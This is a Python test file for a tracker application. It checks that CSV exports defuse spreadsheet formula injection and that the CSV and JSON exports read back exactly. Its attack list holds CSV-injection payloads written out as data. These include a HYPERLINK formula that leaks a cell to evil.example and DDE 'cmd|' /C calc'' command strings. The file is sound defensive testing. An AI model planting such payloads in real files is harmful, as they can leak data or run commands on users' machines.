"""CSV and JSON exports: no cell reaches a spreadsheet as a formula, every CSV reads back row for row,
the JSON stays exact. Planted through the stores (YAML and PostgreSQL), read back through the page's
download and the command line, with Python's csv module and pandas' CSV importer."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone

import pandas as pd
import pytest
from conftest import RECORDED, TODAY, make_data
from helpers import PG_URL, POSTGRES, own_database, reset_database
from hypothesis import given, settings
from hypothesis import strategies as st

from tracker.cli import main as cli_main
from tracker.decisions import accept_suggestion
from tracker.downloads import build_download
from tracker.edits import build_update, insert_update
from tracker.errors import ValidationFailed
from tracker.exports import FORMULA_START, csv_cell, export_table
from tracker.storage.sql import SqlStore
from tracker.storage.yaml_files import YamlStore
from tracker.suggestion import client_key, draft_sources, new_reference, validate_suggestion
from tracker.validation import validate_data
from tracker.view import View

NOW = datetime(2026, 11, 27, 13, 0, tzinfo=timezone.utc)
SOURCE_URL = "https://example.org/planted"
_OWN_DATABASE = "tracker_exports_test"


def read_csv(text: str) -> list[dict[str, str]]:
    """The rows as Python's csv module reads them (from a file opened with newline="")."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def read_with_pandas(text: str) -> list[dict[str, str]]:
    """The rows as pandas' CSV importer reads them, every cell as text."""
    frame = pd.read_csv(io.StringIO(text, newline=""), dtype=str, keep_default_na=False)
    return frame.to_dict(orient="records")


def never_a_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START), (column, cell)
            assert not cell.lstrip().startswith(FORMULA_START), (column, cell)


# -- the attacks: (what is planted where, the text, the column, the cell as exported) ----------------

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"Open")'
ATTACKS = [
    ("note", HYPERLINK, "note", "'" + HYPERLINK),
    ("source title", "+1 (Kyodo)", "sources", f"'+1 (Kyodo) <{SOURCE_URL}>"),
    ("note", "-3%", "note", "'-3%"),
    ("note", "@SUM(1+1)*cmd|' /C calc'!A0", "note", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("note", "\t=1+1", "note", "'\t=1+1"),
    ("note", "\r=2+3", "note", "'\r=2+3"),
    ("note", "  =1+1", "note", "'  =1+1"),
    ("note", "\n=1+1", "note", "'\n=1+1"),
    ("note", "Briefing\r=2+3", "note", "Briefing\r=2+3"),  # a line break inside a quoted cell: one row still
    (
        "note",
        'Said "no", then left.\r\nNext line, with a comma.',
        "note",
        'Said "no", then left.\r\nNext line, with a comma.',
    ),
    ("author", "=cmd|' /C calc'!A0", "author", "'=cmd|' /C calc'!A0"),
    ("note", "3% higher, e-mail, a+b", "note", "3% higher, e-mail, a+b"),  # formula signs inside: untouched
]


def plant(store, where: str, value: str):
    fields = {
        "date": "2026-11-01",
        "status": "partial",
        "note": value if where == "note" else "Planted.",
        "sources": [{"url": SOURCE_URL, "title": value if where == "source title" else "Report", "kind": "news"}],
        "author": value if where == "author" else "Mallory",
        "recorded": "2026-11-27T12:30:00Z",
    }
    return store.append_update("joint-fund", build_update(fields), today=TODAY)


def own_postgres_url() -> str:
    """A database of these tests' own on the test server, emptied of every table."""
    url = own_database(PG_URL, _OWN_DATABASE)
    reset_database(url)
    return url


@pytest.fixture(params=["yaml", POSTGRES])
def place(request, tracker, data_file):
    """(location, store) holding the small tracker, in a YAML file or in PostgreSQL."""
    if request.param == "yaml":
        yield str(data_file), YamlStore(data_file)
        return
    url = own_postgres_url()
    store = SqlStore(url)
    store.replace(tracker, today=TODAY)
    yield url, store
    store.dispose()


def export_by_command(capsys, location: str, what: str = "events", fmt: str = "csv") -> str:
    code = cli_main(["export", "--data", location, "--what", what, "--format", fmt, "--as-of", TODAY.isoformat()])
    out = capsys.readouterr().out
    assert code == 0
    return out


def export_by_page(tracker, what: str = "events", fmt: str = "csv") -> str:
    """What the page's Download button hands over (downloads.build_download)."""
    frame = None if what == "events" else pd.DataFrame()
    view = View(as_of=TODAY)
    content = build_download(f"{what}-{fmt}", tracker, view, frame=frame, permalink="/", generated=NOW)
    return content


@pytest.mark.parametrize(("where", "value", "column", "cell"), ATTACKS, ids=[repr(a[1])[:30] for a in ATTACKS])
def test_a_planted_formula_is_defused_in_every_events_csv(capsys, place, where, value, column, cell):
    location, store = place
    saved = plant(store, where, value)
    for made in (export_by_command(capsys, location), export_by_page(saved)):
        by_csv, by_pandas = read_csv(made), read_with_pandas(made)
        assert len(by_csv) == len(by_pandas) == 8  # seven events before, one planted: no row split off
        planted = next(row for row in by_csv if row["author"] in ("Mallory", csv_cell(value)))
        assert planted[column] == cell
        assert by_pandas == by_csv
        never_a_formula(by_csv)
    # The JSON export is exact: the text as typed.
    events = json.loads(export_by_command(capsys, location, fmt="json"))
    planted = next(event for event in events if event["recorded"] == "2026-11-27T12:30:00Z")
    shown = {"note": planted["note"], "author": planted["author"], "sources": planted["sources"][0]["title"]}
    assert shown[column] == value


def test_a_readers_suggested_title_is_defused_once_accepted(capsys, place, tracker):
    location, store = place
    suggestions = store.suggestions
    form = {
        "rec_id": "joint-fund",
        "note": "-2+3 firms joined.",
        "date": "2026-10-15",
        "status": "implemented",
        "sources": [{"url": "https://example.org/suggested", "title": "@SUM(1+1)*cmd|' /C calc'!A0"}],
    }
    suggestion = validate_suggestion(
        tracker,
        form,
        reference=new_reference(),
        client=client_key("203.0.113.7", "salt"),
        submitted=RECORDED,
        today=TODAY,
    )
    suggestions.submit(suggestion, tracker=tracker, now=NOW)
    accept_suggestion(
        store,
        suggestion.reference,
        editor="Ed Itor",
        note=None,
        sources=draft_sources(suggestion, ["news"]),
        now=NOW,
        today=TODAY,
    )
    rows = read_csv(export_by_command(capsys, location))
    accepted = next(row for row in rows if row["author"] == "Ed Itor")
    assert accepted["sources"] == "'@SUM(1+1)*cmd|' /C calc'!A0 <https://example.org/suggested>"
    assert accepted["note"].startswith("'-2+3 firms joined.")
    never_a_formula(rows)


def test_the_recommendations_table_is_defused_too(capsys, place):
    location, store = place
    store.edit_recommendation(
        "joint-fund",
        {"title": "=1+1", "criteria": "+cmd|' /C calc'!A0"},
        expected={},
        author="Mallory",
        recorded="2026-11-27T12:30:00Z",
        today=TODAY,
    )
    rows = read_csv(export_by_command(capsys, location, what="recommendations"))
    fund = next(row for row in rows if row["id"] == "joint-fund")
    assert (fund["title"], fund["criteria"]) == ("'=1+1", "'+cmd|' /C calc'!A0")
    never_a_formula(rows)
    assert read_with_pandas(export_by_command(capsys, location, what="recommendations")) == rows
    titles = [row["title"] for row in json.loads(export_by_command(capsys, location, "recommendations", "json"))]
    assert "=1+1" in titles  # the JSON as typed


def test_every_field_is_quoted_and_rows_end_in_crlf(tracker):
    text = export_table(tracker, what="recommendations", fmt="csv", as_of=TODAY)
    assert text.startswith('"id","title","addressees",')
    assert text.endswith('"The measure is in place as the article asks."\r\n')
    assert text.count("\r\n") == 4 and "\n" not in text.replace("\r\n", "")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        (" \u3000=1", "' \u3000=1"),  # an ideographic space before it: some importers trim it
        ("'=1", "'=1"),  # already text to a spreadsheet
        ("a=1", "a=1"),
        ("", ""),
        (3, 3),  # numbers stay numbers
        (True, True),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


# -- the property: whatever an update accepts comes back from the CSV, never as a formula -----------

# Any text, line breaks, tabs, quotes and the formula signs included (the model refuses what it must).
ANY_TEXT = st.text(
    st.one_of(st.sampled_from('=+-@\t\r\n",; \u3000\u2028'), st.characters(exclude_categories=("Cs",))),
    min_size=1,
    max_size=30,
)


SMALL = validate_data(make_data(), today=TODAY)


@settings(max_examples=150, deadline=None)
@given(note=ANY_TEXT, title=ANY_TEXT, author=ANY_TEXT)
def test_any_accepted_text_reads_back_from_the_csv_and_never_as_a_formula(note, title, author):
    fields = {
        "date": "2026-11-01",
        "status": "partial",
        "note": note,
        "sources": [{"url": SOURCE_URL, "title": title, "kind": "news"}],
        "author": author,
        "recorded": "2026-11-27T12:30:00Z",
    }
    try:
        update = build_update(fields)
    except ValidationFailed:
        return  # refused: nothing to export
    text = export_table(insert_update(SMALL, "joint-fund", update, today=TODAY), what="events", fmt="csv", as_of=TODAY)
    by_csv = read_csv(text)
    assert len(by_csv) == 8
    (planted,) = [row for row in by_csv if row["recorded"] == "2026-11-27T12:30:00Z"]
    assert (planted["note"], planted["author"]) == (csv_cell(note), csv_cell(author))
    assert planted["sources"] == csv_cell(f"{title} <{SOURCE_URL}>")
    # What the apostrophe hides is exactly what was typed.
    for cell, typed in ((planted["note"], note), (planted["author"], author)):
        formula_like = typed.startswith(FORMULA_START) or typed.lstrip().startswith(FORMULA_START)
        assert cell == ("'" + typed if formula_like else typed)
    never_a_formula(by_csv)
    assert read_with_pandas(text) == by_csv
